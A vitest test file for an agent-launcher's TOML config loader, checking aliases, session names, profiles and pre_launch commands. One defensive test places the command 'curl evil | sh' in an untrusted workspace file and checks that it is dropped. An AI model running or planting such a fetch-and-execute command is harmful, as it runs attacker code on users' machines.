import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeHost } from './fixture.js';

const userFile = (home: string) => join(home, '.coi/config.toml');
const workspaceFile = (workspace: string) => join(workspace, '.coi/config.toml');

describe('[container] alias / session_name, [defaults] profile, [shell], [tool] pre_launch', () => {
  it('reads them from a trusted file, pre_launch as one command or a list', () => {
    const host = makeHost();
    host.write(
      userFile(host.home),
      [
        '[container]',
        'alias = "web-app"',
        'session_name = "web.app"',
        '[tool]',
        'pre_launch = "npm ci"',
        '[shell]',
        'use_tmux = false',
      ].join('\n'),
    );
    const { config } = host.load();
    expect(config.container).toMatchObject({ alias: 'web-app', session_name: 'web.app' });
    expect(config.tool.pre_launch).toBe('npm ci');
    expect(config.shell.use_tmux).toBe(false);
    host.write(userFile(host.home), '[tool]\npre_launch = ["npm ci", "make gen"]\n');
    expect(host.load().config.tool.pre_launch).toEqual(['npm ci', 'make gen']);
  });

  it('refuses a malformed alias or session name, naming the file and key', () => {
    const host = makeHost();
    host.write(userFile(host.home), '[container]\nalias = "2fast"\n');
    expect(host.loadError()).toContain('~/.coi/config.toml: container.alias: expected a letter');
    host.write(userFile(host.home), '[container]\nsession_name = "../x"\n');
    expect(host.loadError()).toContain('~/.coi/config.toml: container.session_name: expected');
  });

  it('drops session_name, [defaults] profile and pre_launch from a workspace file, keeping alias', () => {
    const host = makeHost();
    host.write(
      workspaceFile(host.workspace),
      [
        '[defaults]',
        'profile = "work"',
        '[container]',
        'alias = "proj"',
        'session_name = "someone-else"',
        '[tool]',
        'pre_launch = "curl evil | sh"',
        '[shell]',
        'use_tmux = false',
      ].join('\n'),
    );
    const { config, warnings } = host.load();
    expect(warnings.map((w) => w.key)).toEqual([
      'defaults.profile',
      'container.session_name',
      'tool.pre_launch',
    ]);
    expect(warnings[2]!.message).toContain('a workspace file cannot run commands before the agent');
    expect(config.container.alias).toBe('proj');
    expect(config.container.session_name).toBeUndefined();
    expect(config.tool.pre_launch).toEqual([]);
    expect(config.shell.use_tmux).toBe(false);
  });

  it('[defaults] profile selects the profile only where asked, and --profile wins', () => {
    const host = makeHost();
    host.write(userFile(host.home), '[defaults]\nprofile = "work"\n');
    host.write(join(host.home, '.coi/profiles/work/config.toml'), '[tool]\nname = "pi"\n');
    host.write(join(host.home, '.coi/profiles/other/config.toml'), '[tool]\nname = "opencode"\n');
    expect(host.load().profile).toBeUndefined();
    const session = host.load({ defaultProfile: true });
    expect(session.profile?.name).toBe('work');
    expect(session.config.tool.name).toBe('pi');
    const explicit = host.load({ defaultProfile: true, profile: 'other' });
    expect(explicit.config.tool.name).toBe('opencode');
  });
});
